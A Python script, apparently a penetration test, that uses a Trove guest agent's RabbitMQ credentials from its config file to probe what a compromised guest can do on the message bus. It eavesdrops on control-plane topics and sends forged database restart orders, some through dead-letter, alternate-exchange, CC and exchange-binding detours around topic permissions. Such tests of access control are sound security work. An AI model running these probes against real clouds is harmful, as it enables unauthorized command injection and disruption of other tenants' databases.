"""A guest of the database service in the hands of whoever broke into it: what the bus lets it do.

``python intruder.py CONF TARGET [AUTHORITY]``, in the services' environment: the agents' file, a
routing key that guests are not meant to send to, and by whose certificate the bus is known (none:
without TLS). Prints as JSON, for each try, ``taken``, ``refused`` or what else went wrong.
"""

from __future__ import annotations

import json
import re
import ssl
import sys
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import amqp
import kombu

EXCHANGE, OWN = "trove", "guestagent.intruder"
Work = Callable[[Any], object]


class Intruder:
    """Has the guests' account."""

    def __init__(self, url: str, authority: str | None = None) -> None:
        self._url = urlsplit(url)
        named = {"cert_reqs": ssl.CERT_REQUIRED, "server_hostname": self._url.hostname}
        self._tls = named | {"ca_certs": authority} if authority else None

    def tries(self, work: Work, vhost: str = "trove") -> str:
        """What becomes of ``work``, done with a channel of its own."""
        try:
            with self._connection(vhost) as bus:
                bus.connect()
                with bus.channel() as channel:
                    work(channel)
        except (amqp.AccessRefused, amqp.NotAllowed):
            return "refused"
        except Exception as error:  # noqa: BLE001 - whatever it is, the test is to show it
            return repr(error)
        return "taken"

    def _connection(self, vhost: str) -> Any:
        return kombu.Connection(
            hostname=self._url.hostname,
            port=self._url.port,
            userid=unquote(self._url.username or ""),
            password=unquote(self._url.password or ""),
            virtual_host=vhost,
            ssl=self._tls or False,
            transport_options={"max_retries": 1},
            connect_timeout=10,
        )


def queue(channel: Any, name: str = OWN, **arguments: object) -> str:
    """One of its own, which does not stay; its name."""
    arguments = {"x-expires": 60_000, **arguments}
    channel.queue_declare(name, durable=True, auto_delete=False, arguments=arguments)
    return name


def exchange(channel: Any, kind: str, name: str, **arguments: object) -> str:
    """One of its own, which goes with what is bound to it; its name."""
    channel.exchange_declare(name, kind, durable=True, auto_delete=True, arguments=arguments)
    return name


def send(channel: Any, way: str, to: str, key: str, **headers: object) -> None:
    """An order to restart a database, as it looks on the bus, and not encrypted.

    Known again by its ``way``. It has arrived at the broker when this returns.
    """
    order = {
        "method": "restart",
        "args": {"instance_id": way},
        "version": "1.0",
        # No base64: upstream's reader would take all of it as it stands.
        "_context_context": "§",
        "_context_project_id": "one",
        "_context_way": way,
        "_unique_id": uuid.uuid4().hex,
    }
    text = json.dumps({"oslo.version": "2.0", "oslo.message": json.dumps(order)})
    told = {"content_type": "application/json", "content_encoding": "utf-8"}
    channel.confirm_select()
    channel.basic_publish_confirm(
        amqp.Message(text, application_headers=headers, **told), exchange=to, routing_key=key
    )


def hears(key: str) -> Work:
    def work(channel: Any) -> None:
        channel.queue_bind(queue(channel), EXCHANGE, key)
        channel.queue_unbind(OWN, EXCHANGE, key)

    return work


def hears_by_an_exchange(key: str) -> Work:
    def work(channel: Any) -> None:
        own = exchange(channel, "fanout", f"{OWN}-hears")
        channel.exchange_bind(own, EXCHANGE, key)
        channel.exchange_unbind(own, EXCHANGE, key)

    return work


def tells(way: str, key: str) -> Work:
    return lambda channel: send(channel, way, EXCHANGE, key)


def detours(target: str) -> dict[str, Work]:
    """Ways to ``target`` on which the broker asks for no right to its topic."""

    def default(channel: Any) -> None:
        send(channel, "default exchange", "", target)

    def copy(channel: Any) -> None:
        send(channel, "copy", EXCHANGE, "trove-conductor.nobody", CC=[target])

    def dead_letter(channel: Any) -> None:
        dead = {"x-dead-letter-exchange": EXCHANGE, "x-dead-letter-routing-key": target}
        own = queue(channel, f"{OWN}-dead", **dead, **{"x-message-ttl": 0})
        send(channel, "dead letter", "", own)

    def alternate(channel: Any) -> None:
        named = {"alternate-exchange": EXCHANGE}
        own = exchange(channel, "topic", f"{OWN}-alternate", **named)
        send(channel, "alternate exchange", own, target)
        channel.exchange_delete(own)

    def bound(channel: Any) -> None:
        own = exchange(channel, "topic", f"{OWN}-bound")
        channel.exchange_bind(EXCHANGE, own, "#")
        send(channel, "bound exchange", own, target)
        channel.exchange_unbind(EXCHANGE, own, "#")

    ways = {
        "default exchange": default,
        "copy": copy,
        "dead letter": dead_letter,
        "alternate exchange": alternate,
        "bound exchange": bound,
    }
    return {f"tell by {way}": work for way, work in ways.items()}


def tries(intruder: Intruder, target: str) -> dict[str, str]:
    def makes(kind: str) -> Work:
        return lambda channel: channel.exchange_declare(
            EXCHANGE, kind, durable=True, auto_delete=False
        )

    # What is not refused is to leave a cloud as it was.
    works: dict[str, Work] = {
        "hear the taskmanager": hears("taskmanager"),
        "hear the conductor": hears("trove-conductor"),
        "hear all": hears("#"),
        "hear the taskmanager by an exchange": hears_by_an_exchange("taskmanager"),
        "hear all by an exchange": hears_by_an_exchange("#"),
        "hear a guest": hears(OWN),
        "read the taskmanager's queue": lambda channel: channel.basic_get("taskmanager"),
        "delete the exchange": lambda channel: channel.exchange_delete(EXCHANGE, if_unused=True),
        "make the exchange": makes("topic"),
        "make the exchange another": makes("fanout"),
        "see the exchange": lambda channel: channel.exchange_declare(
            EXCHANGE, "topic", passive=True
        ),
        "tell the taskmanager": tells("topic", target),
        "tell the conductor": tells("conductor", "trove-conductor.nobody"),
        **detours(target),
    }
    found = {name: intruder.tries(work) for name, work in works.items()}
    return {"the main vhost": intruder.tries(lambda _: None, "/"), **found}


if __name__ == "__main__":
    conf, aim, *more = sys.argv[1:]
    (address,) = re.findall(r"^transport_url = rabbit(.*)$", Path(conf).read_text(), re.MULTILINE)
    print(json.dumps(tries(Intruder(f"amqp{address}", *more), aim)))
